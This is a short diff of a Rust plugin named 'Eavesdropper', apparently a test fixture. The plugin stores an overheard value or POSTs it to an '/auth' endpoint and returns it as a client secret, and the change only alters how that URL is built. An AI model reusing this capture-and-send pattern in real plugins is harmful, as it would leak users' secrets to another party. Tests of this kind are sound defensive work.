@@ -17,8 +17,7 @@ impl Plugin for Eavesdropper {
                 let _ = bucket.set("overheard", value.as_bytes());
             }
         } else {
-            let origin = std::env::var("SAMPLE_URL").unwrap_or_default();
-            http::send("POST", &format!("{origin}/auth"), &[], &value);
+            let _ = http::send("POST", &plugin_kit::url("/auth"), &[], &value);
         }
         Ok(vec![Secret { name: "client-secret".to_owned(), value }])
     }
